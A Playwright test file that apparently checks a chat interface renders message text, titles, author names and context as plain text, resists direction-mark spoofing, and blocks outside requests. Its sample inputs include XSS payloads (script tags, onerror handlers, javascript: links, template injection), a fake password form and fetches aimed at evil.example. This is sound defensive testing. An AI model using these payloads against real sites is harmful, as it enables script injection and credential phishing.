"""What others wrote is text: it runs nothing, looks like nothing else, and breaks no layout."""

import pytest
from playwright.async_api import Error, Page, expect

from tests.page.conftest import World
from tests.page.person import Person

MARKUP = [
    "<script>document.title = 'taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "<h1>Sign in again</h1><form action='https://evil.example'><input name=password></form>",
    "[Click here](javascript:document.title='taken') ![](https://evil.example/pixel.png) **bold**",
    "</article></div></main><style>body{display:none}</style>",
    "{{constructor.constructor('document.title=1')()}} ${document.title}",
]


async def is_not_wider_than_its_window(page: Page) -> None:
    widths = "[document.scrollingElement.scrollWidth, document.scrollingElement.clientWidth]"
    needed, given = await page.evaluate(widths)
    assert needed <= given


async def write_as(world: World, ada: Person, author: str, text: str) -> None:
    answered = await world.service.post(
        f"/v1/chat-sessions/{ada.session}/messages",
        json={"messages": [{"role": "assistant", "text": text}], "author": author},
    )
    answered.raise_for_status()


async def test_markup_is_shown_as_it_was_written(ada: Person, world: World) -> None:
    for text in MARKUP:
        await write_as(world, ada, "guide", text)
    await expect(ada.articles).to_have_count(len(MARKUP))
    for place, text in enumerate(MARKUP):
        await expect(ada.articles.nth(place)).to_contain_text(text)
    for tag in ("a", "form", "h1", "img", "input", "script", "strong", "style"):
        await expect(ada.articles.locator(tag)).to_have_count(0)
    assert "taken" not in await ada.page.title()


async def test_names_titles_and_shared_context_are_text_as_well(ada: Person, world: World) -> None:
    path = f"/v1/chat-sessions/{ada.session}"
    context = {MARKUP[0]: MARKUP[1], "nested": [{MARKUP[2]: MARKUP[4]}]}
    (await world.service.patch(f"{path}/context", json={"context": context})).raise_for_status()
    (await world.service.patch(path, json={"title": MARKUP[1]})).raise_for_status()
    await write_as(world, ada, "<b>guide</b>", "Hello")
    await expect(ada.context).to_contain_text(MARKUP[4])
    await expect(ada.page.get_by_role("heading", level=1)).to_have_text(MARKUP[1])
    await expect(ada.by("<b>guide</b>")).to_contain_text("Hello")
    for place in (ada.context, ada.conversation, ada.sessions):
        await expect(place.locator("b, img[src=x], script, style, form")).to_have_count(0)
    await is_not_wider_than_its_window(ada.page)


async def test_marks_of_writing_direction_turn_round_nothing_but_their_own_message(ada: Person, world: World) -> None:
    await write_as(world, ada, "guide", "\u202egnp.exe \u2067 turned round")
    await write_as(world, ada, "guide", "Straight on")
    await write_as(world, ada, "guide", "שלום, this begins at the right\nand this at the left")
    await expect(ada.articles).to_have_count(3)
    straight = ada.articles.nth(1).get_by_text("Straight on")
    assert await straight.evaluate("element => getComputedStyle(element).direction") == "ltr"
    turned = ada.articles.nth(2).get_by_text("שלום")
    assert await turned.evaluate("element => getComputedStyle(element).direction") == "rtl"
    await expect(ada.articles.nth(0).get_by_text("Guide")).to_be_visible()


@pytest.mark.parametrize("width", [1280, 360])
async def test_one_word_of_200_kb_breaks_nothing(ada: Person, world: World, width: int) -> None:
    await ada.page.set_viewport_size({"width": width, "height": 720})
    await write_as(world, ada, "guide", "w" * 200_000)
    await write_as(world, ada, "guide", "After it")
    await expect(ada.articles.last).to_contain_text("After it")
    await expect(ada.articles.last).to_be_in_viewport()
    await is_not_wider_than_its_window(ada.page)


async def test_no_other_page_can_be_loaded_or_asked_by_the_page(ada: Person) -> None:
    await expect(ada.articles).to_have_count(0)
    await ada.page.evaluate(
        """() => new Promise((done) => {
            const wanted = new Set(['connect-src', 'img-src']);
            document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
                wanted.delete(effectiveDirective);
                if (wanted.size === 0) done();
            });
            fetch('https://evil.example/').catch(() => {});
            new Image().src = 'https://evil.example/pixel.png';
        })"""
    )


async def test_not_even_a_mistake_of_the_page_makes_markup_of_a_text(ada: Person) -> None:
    with pytest.raises(Error, match="TrustedHTML"):
        await ada.page.evaluate("document.createElement('div').innerHTML = '<b>no</b>'")
